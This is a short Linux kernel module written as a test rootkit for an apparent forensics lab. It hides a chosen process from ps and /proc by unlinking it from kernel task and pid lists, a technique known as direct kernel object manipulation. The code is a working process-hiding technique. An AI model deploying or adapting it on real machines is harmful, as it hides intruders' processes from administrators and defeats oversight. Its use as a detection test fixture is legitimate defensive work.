// Test rootkit: hides the task `pid` from ps by direct kernel object manipulation.
// It unlinks the task from the task list (init_task.tasks) and from its struct
// pid, so /proc (which iterates the PID namespace) no longer finds it; the task
// keeps running. The task stays on its parent's children list, as it does under
// the classic rootkits that do this. The guest must never reap it (the lab's
// guests are thrown away after the test).
#include <linux/module.h>
#include <linux/pid.h>
#include <linux/rculist.h>
#include <linux/sched.h>
#include <linux/sched/task.h>
#include <linux/sched/signal.h>

static int pid;
module_param(pid, int, 0);

static int __init hide_task_init(void) {
  struct task_struct* task;
  rcu_read_lock();
  task = pid_task(find_vpid(pid), PIDTYPE_PID);
  if (task) get_task_struct(task);
  rcu_read_unlock();
  if (!task) return -ESRCH;
  // tasklist_lock is not exported; like the rootkits it imitates, it does without.
  local_irq_disable();
  list_del_init_careful(&task->tasks);
  hlist_del_init_rcu(&task->pid_links[PIDTYPE_PID]);
  if (thread_group_leader(task)) {
    hlist_del_init_rcu(&task->pid_links[PIDTYPE_TGID]);
  }
  local_irq_enable();
  pr_info("nfm_rk_hide_task: hid pid %d (%s)\n", pid, task->comm);
  return 0;
}

module_init(hide_task_init);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("nfm test rootkit: DKOM task hiding");
